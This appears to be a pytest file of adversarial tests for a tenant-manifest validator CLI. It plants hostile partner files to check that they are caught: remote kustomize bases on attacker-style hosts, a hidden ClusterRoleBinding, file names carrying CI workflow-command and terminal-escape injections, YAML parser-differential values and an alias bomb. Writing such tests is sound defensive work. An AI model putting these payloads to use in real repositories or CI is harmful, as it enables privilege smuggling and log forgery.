"""What a pull-request author can put in a partner's folder to get past `tenantry validate` or to
mislead the reviewer reading its output (an attacker's review of the CLI, 3 Dec).

Tested here (the installed command, under a timeout and a memory cap):
- whatever Flux or Argo CD would apply from a partner's folder without the checks is a finding: a
  kustomization.yaml (patches, remote bases), a Chart.yaml, any object that is not a Tenant,
  Branding, FeatureSet or Deal, and what kustomize, Flux or Argo CD would read that validate does
  not (a file named Kustomization, .json, .jsonnet, .YAML); a README or a .gitignore is no finding
- a file name or key with a line break, an escape sequence or a bidirectional control reaches the
  terminal and the plan job's log escaped: no line of the output starts a workflow command
- YAML that Go (kubectl, kustomize, Flux) reads otherwise than PyYAML: a key twice, unquoted y/n,
  sexagesimal numbers; a slug with a final line break (Python's `$` matches before it)
- a scalar alias repeated 20,000 times is refused at once (it multiplied in every error message)
- hostile types where a mapping or a list belongs (kind, metadata, labels, domains) get a finding,
  and the run ends normally (exit 1, not an internal error)
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from tenantry.cli import sources
from tests.unit.test_cli_files import ACME, COMMAND, EXAMPLES, TENANT, bounded, of, run_validate
from tests.unit.test_cli_validate import write

GOOD = TENANT.format(name="gut", namespace="partner-acme-it")


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return Path(shutil.copytree(EXAMPLES, tmp_path / "repo"))


def test_what_flux_or_argo_would_apply_unchecked_is_a_finding(repo: Path) -> None:
    write(repo, ACME + "/kustomization.yaml",
          "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n"
          "- https://raw.githubusercontent.com/attacker/x/main/tenant.yaml\n")
    write(repo, ACME + "/Chart.yaml", "apiVersion: v2\nname: x\nversion: 0.1.0\n")
    write(repo, ACME + "/sneaky.yaml", GOOD + "---\napiVersion: rbac.authorization.k8s.io/v1\n"
          "kind: ClusterRoleBinding\nmetadata: {name: mine}\n")
    write(repo, ACME + "/evil.json", json.dumps({"apiVersion": "tenantry.dev/v1alpha1", "kind": "Tenant"}))
    write(repo, ACME + "/lib/evil.jsonnet", "{}")
    write(repo, ACME + "/remote/Kustomization", "resources: [https://evil.example/x]\n")  # kustomize reads it
    write(repo, ACME + "/extra.YAML", "apiVersion: v1\nkind: Namespace\nmetadata: {name: x}\n")
    for applied_by_nobody in ("README.md", ".gitignore", "notes.txt", "logo.png"):
        write(repo, f"{ACME}/{applied_by_nobody}", "x\n")
    # What Flux, kpt or Argo CD would leave out or re-parameterise (Flux then prunes what it hides).
    changers = [f"{ACME}/{name}" for name in (".sourceignore", "sub/.krmignore", ".argocd-source-acme.yaml")]
    changers.append("tenants/.sourceignore")  # every partner's Tenants
    for changer in changers:
        write(repo, changer, "*.yaml\n")
    findings = run_validate(repo)
    for changer in changers:
        assert any("Flux would prune the Tenants it hides" in f["message"] for f in of(findings, changer)), changer
    assert any("Kustomization under tenants/" in f["message"] for f in of(findings, "kustomization.yaml"))
    assert any("without a kind under tenants/" in f["message"] for f in of(findings, "Chart.yaml"))
    assert [f["message"][:35] for f in of(findings, "sneaky.yaml")] == ["a ClusterRoleBinding under tenants/"]
    for name in ("evil.json", "lib/evil.jsonnet", "remote/Kustomization", "extra.YAML"):
        assert any("tenantry does not check" in f["message"] for f in of(findings, name)), name
    for applied_by_nobody in ("README.md", ".gitignore", "notes.txt", "logo.png"):
        assert of(findings, applied_by_nobody) == [], applied_by_nobody
    # Outside the partners' folders such files are not tenantry's business.
    write(repo, "flux/extra.json", "{}")
    assert of(run_validate(repo), "flux/extra.json") == []


def test_names_and_keys_reach_the_terminal_and_the_ci_log_escaped(repo: Path) -> None:
    name = "ok.yaml\n::group::forged\x1b]52;c;ZXZpbA==\x07\u202e.yaml"
    write(repo, f"{ACME}/{name}", GOOD.replace("gut", "gut2") + '  "\\e[2Jfake.yaml:1: ok": 1\n')
    for command in ([COMMAND, "validate", str(repo)], [COMMAND, "validate", "-o", "github", str(repo)],
                    [COMMAND, "plan", "--kubeconfig", "/dev/null", "--repo", str(repo), str(repo / ACME)]):
        result = bounded(command)
        assert result.returncode == 1, result.stderr
        output = result.stdout + result.stderr
        assert "\\x0a%3A%3Agroup%3A%3Aforged\\x1b]52" in output if "github" in command else \
            "\\x0a::group::forged\\x1b]52" in output, output
        assert "\\u202e" in output, output
        assert not any(line.startswith("::") and not line.startswith("::error file=") for line in output.splitlines())
        assert "\x1b" not in output and "\u202e" not in output
        assert 'spec["\\u001b[2Jfake.yaml' in output, output


@pytest.mark.parametrize(("text", "words"), [
    (GOOD + "  plan: {featureSet: business, seats: 9}\n", 'the key "plan" appears twice'),
    (GOOD + GOOD.replace("metadata: {name: gut", "metadata: {name: gut2"),
     'the key "apiVersion" appears twice in one mapping: keep one (two objects in one file need a line ---'),
    (GOOD.replace("  company", "\tcompany"), "indented with a tab: YAML indents with spaces only"),
    (GOOD.replace("Test GmbH", "Test\x0cGmbH"), "contains the character U+000C, which YAML does not allow"),
    (GOOD.replace("company: Test GmbH", "company: N"), 'the unquoted value "N"'),
    (GOOD.replace("seats: 5", "seats: 1:30"), 'the unquoted value "1:30"'),
    (GOOD.replace("seats: 5", "seats: 1:30.5"), 'the unquoted value "1:30.5"'),
    (GOOD.replace("name: gut", 'name: "admin\\n"'), "is not a DNS label"),
    # Text here, numbers to Go's YAML (kubectl sends "company": 1000): refused, not a surprise after merge.
    (GOOD.replace("company: Test GmbH", "company: 1e3"), 'the unquoted value "1e3" is read as a number by kubectl'),
    (GOOD.replace("company: Test GmbH", "company: 0o17"), 'the unquoted value "0o17" is read as a number'),
    (GOOD.replace("name: Test,", "name: 08,"), 'the unquoted value "08" is read as a number'),
    (GOOD.replace("company: Test GmbH", "company: -.5"), 'the unquoted value "-.5" is read as a number'),
    (GOOD.replace("company: Test GmbH", "company: 1.5e3"), 'the unquoted value "1.5e3" is read as a number'),
    # A written tag: kubectl sends "x" where this reader made [] (and `!!bool maybe` was an internal error).
    (GOOD + "  domains: !!seq x\n", "a written YAML tag (!, !!str, ...) is not allowed"),
    (GOOD + "  industry: !!bool maybe\n", "a written YAML tag"),
    (GOOD + "  industry: !!timestamp nope\n", "a written YAML tag"),
    (GOOD + "  industry: &a !!str 5\n", "a written YAML tag"),
    # The non-specific tag: 85 here, "85" to kubectl.
    (GOOD.replace("seats: 5", "seats: ! 85"), "a written YAML tag"),
    (GOOD.replace("company: Test GmbH", "company: 1.0e+400"), 'the unquoted value "1.0e+400" is read as text by '
                                                             "kubectl (YAML 1.1 in Go) and as a number by tenantry"),
    # A boolean to kubectl, text to Flux and kustomize (go-yaml v3): only true and false are both.
    (GOOD + "  features: {chat: {enabled: yes}}\n", 'the unquoted value "yes" is a boolean to kubectl (YAML 1.1) '
                                                    "and text to Flux and kustomize (YAML 1.2): write true or false"),
    # A key Go reads as a boolean: Norwegian's "no" becomes the key "false".
    (GOOD + "  features: {chat: {enabled: true}, no: {enabled: true}}\n",
     'the unquoted key "no" is a boolean to kubectl (YAML 1.1)'),
    (GOOD + "  features: {chat: {enabled: true}, 1e3: {enabled: true}}\n",
     'the unquoted key "1e3" is read as a number by kubectl'),
    ("a: &x " + "x" * 400_000 + "\nb: [" + ", ".join(["*x"] * 20_000) + "]\n", "aliases (*name) are not allowed"),
])
def test_yaml_read_otherwise_by_kubectl_is_refused(repo: Path, text: str, words: str) -> None:
    write(repo, ACME + "/odd.yaml", text)
    mine = of(run_validate(repo), ACME + "/odd.yaml")
    assert any(words in f["message"] for f in mine), mine


def test_metadata_the_api_server_refuses_or_git_must_not_write_is_a_finding(repo: Path) -> None:
    """Keys and values the API server refuses (the partner's whole folder would stop syncing), and
    metadata a file under tenants/ has no business writing: ownerReferences (the garbage collector
    deletes a Tenant whose owner does not exist, after every sync), finalizers, generateName."""
    hostile = GOOD.replace("metadata: {", "metadata: {labels: {'bad key!': x, ok: '\\e[2J x', example..com/x: v}, "
                           "annotations: {'UPPER/case/too/many': x, a.-b/x: v}, finalizers: [not a finalizer at all], "
                           "generateName: gut-, ownerReferences: [{kind: ConfigMap, uid: '1'}], ")
    write(repo, ACME + "/meta.yaml", hostile)
    said = {(f["field"], f["message"]) for f in of(run_validate(repo), ACME + "/meta.yaml")}
    for field, words in (("metadata.labels.bad key!", "is not a valid label key"),
                         ("metadata.labels.ok", "is not a valid label value"),
                         ("metadata.annotations.UPPER/case/too/many", "is not a valid annotation key"),
                         ("metadata.finalizers[0]", "is not a valid finalizer name"),
                         ("metadata.finalizers", "not written in the tenants repository (of metadata, only name"),
                         ("metadata.generateName", "not written in the tenants repository"),
                         ("metadata.labels.example..com/x", "is not a valid label key"),
                         ("metadata.annotations.a.-b/x", "is not a valid annotation key"),
                         ("metadata.ownerReferences", "not written in the tenants repository")):
        assert any(f == field and words in m for f, m in said), (field, said)
    # Keys and values as Kubernetes takes them pass: annotation keys judged in lower case, a prefix
    # of 253 characters, and kubectl's own creationTimestamp: null.
    longest = ".".join(["a" * 63] * 3) + "." + "b" * 61 + "/" + "c" * 63
    fine = GOOD.replace("metadata: {", "metadata: {labels: {app.kubernetes.io/part-of: shop, tier: ''}, "
                        f"annotations: {{example.com/Note_1.x: any text at all, Example.com/note: x, {longest}: x}}, "
                        "creationTimestamp: null, ")
    write(repo, ACME + "/meta.yaml", fine)
    assert of(run_validate(repo), ACME + "/meta.yaml") == []
    # All annotations together at most 256 KiB, as the API server allows.
    big = GOOD.replace("metadata: {", "metadata: {annotations: {a: " + "x" * 140_000 + ", b: " + "y" * 140_000 + "}, ")
    write(repo, ACME + "/meta.yaml", big)
    assert any("the annotations take 280002 bytes, at most 262144" in f["message"]
               for f in of(run_validate(repo), ACME + "/meta.yaml"))


def test_an_empty_document_at_the_end_is_skipped_as_kubectl_does(repo: Path) -> None:
    write(repo, ACME + "/gut.yaml", "---\n" + GOOD + "---\n---\n")
    assert of(run_validate(repo), ACME + "/gut.yaml") == []


@pytest.mark.parametrize(("value", "read"), [
    ('"1e3"', "1e3"), ("'0o17'", "0o17"), ("1.5", 1.5), ("10", 10), ("0x1F", 31), (".5", 0.5), ("1_000", 1000),
    ("true", True), ("Test GmbH", "Test GmbH"), ("~", None), ("Hallo! Welt", "Hallo! Welt"), ('"! 85"', "! 85"),
    ("'yes'", "yes")])
def test_values_read_alike_by_kubectl_pass(tmp_path: Path, value: str, read: object) -> None:
    """The same reading in Go's YAML and here (a number both ways, text in quotes): read, no finding."""
    (tmp_path / "a.yaml").write_text(f"a: {value}\n")
    [document] = sources.load(tmp_path / "a.yaml")
    assert document.data == {"a": read}


@pytest.mark.parametrize("hostile", [
    "apiVersion: tenantry.dev/v1alpha1\nkind: [Tenant]\nmetadata: {name: x}\n",
    "apiVersion: tenantry.dev/v1alpha1\nkind: Tenant\nmetadata: just-a-string\n",
    GOOD.replace("metadata: {", "metadata: {annotations: 1, "),
    GOOD.replace("metadata: {", "metadata: {labels: [x], "),
    GOOD + "  domains: 1\n",
    GOOD.replace("plan: {featureSet: business, seats: 5}", "plan: business"),
])
def test_hostile_types_are_findings_not_crashes(repo: Path, hostile: str) -> None:
    write(repo, ACME + "/typed.yaml", hostile)
    assert of(run_validate(repo), ACME + "/typed.yaml"), "no finding"


def test_times_read_as_text_by_both_pass(repo: Path) -> None:
    """09:00 and 0:30 are text for PyYAML and Go alike: no finding for them."""
    write(repo, ACME + "/times.yaml", GOOD.replace("company: Test GmbH", "company: Test GmbH\n  industry: 09:00")
          .replace("name: Test,", "name: 0:30,"))
    assert of(run_validate(repo), ACME + "/times.yaml") == []
